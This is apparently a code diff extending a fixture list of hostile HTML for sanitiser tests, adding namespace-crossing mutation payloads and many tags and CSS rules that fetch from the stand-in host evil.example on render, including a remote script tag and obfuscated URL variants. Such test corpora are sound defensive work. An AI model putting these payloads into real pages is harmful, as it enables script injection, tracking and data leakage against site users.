@@ -61,6 +61,40 @@ const mutations = RAW.flatMap((tag) => [
   `<${tag}><![CDATA[</${tag}>${IMAGE}]]>`,
 ]);
 
+/** What begins in one of them and ends in the other, by whose rules it is read. */
+const NAMESPACES = ['svg', 'math', 'table', 'select', 'form', 'p', 'li', 'a'];
+const crossed = NAMESPACES.flatMap((outer) =>
+  RAW.flatMap((inner) => [
+    `<${outer}><${inner}></${outer}>${IMAGE}</${inner}>`,
+    `<${outer}><${inner} title="</${outer}>${IMAGE}"></${inner}></${outer}>${IMAGE}`,
+  ]),
+);
+
+const HOSTS = [
+  ...['https://evil.example/x', '//evil.example/x', 'https:evil.example/x', '/\\evil.example/x'],
+  ...[' https://evil.example/x', 'ht\ttps://evil.example/x', '&#x2f;&sol;evil.example/x'],
+];
+/** Each asks another host for something as soon as it is shown. */
+const LOADERS: ((url: string) => string)[] = [
+  (url) => `<img srcset="${url} 1x">`,
+  (url) => `<picture><source srcset="${url}"><img src=data:,></picture>`,
+  (url) => `<video autoplay poster="${url}" src="${url}"></video>`,
+  (url) => `<audio autoplay src="${url}"></audio>`,
+  (url) => `<video><track default kind=captions src="${url}"></video>`,
+  (url) => `<input type=image src="${url}">`,
+  (url) => `<link rel="icon stylesheet" href="${url}">`,
+  (url) => `<link rel=preload as=style href="${url}">`,
+  (url) => `<script async src="${url}"></script>`,
+  (url) => `<svg><image href="${url}"/><feImage xlink:href="${url}"/></svg>`,
+  (url) => `<svg><use href="${url}#x"/></svg>`,
+  (url) => `<table background="${url}"><tr><td background="${url}">x</table>`,
+  (url) => `<style>@import "${url}"; * { cursor: url(${url}), auto }</style>`,
+  (url) => `<p style="list-style:url(${url});content:url(${url});mask:url(${url})">x</p>`,
+  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
+  (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
+];
+const loads = HOSTS.flatMap((url) => LOADERS.map((loader) => loader(url)));
+
 const COLOURS = ['color', 'background-color', 'background', 'data-color', 'data-background'];
 const styles = COLOURS.flatMap((name) =>
   [
@@ -79,4 +113,6 @@ const styles = COLOURS.flatMap((name) =>
 );
 
 /** HTML that runs a program, leaves the page or loads something where it is taken as it is. */
-export const combinedHtml: readonly string[] = [handlers, addresses, mutations, styles].flat();
+export const combinedHtml: readonly string[] = [
+  ...[handlers, addresses, mutations, crossed, loads, styles].flat(),
+];
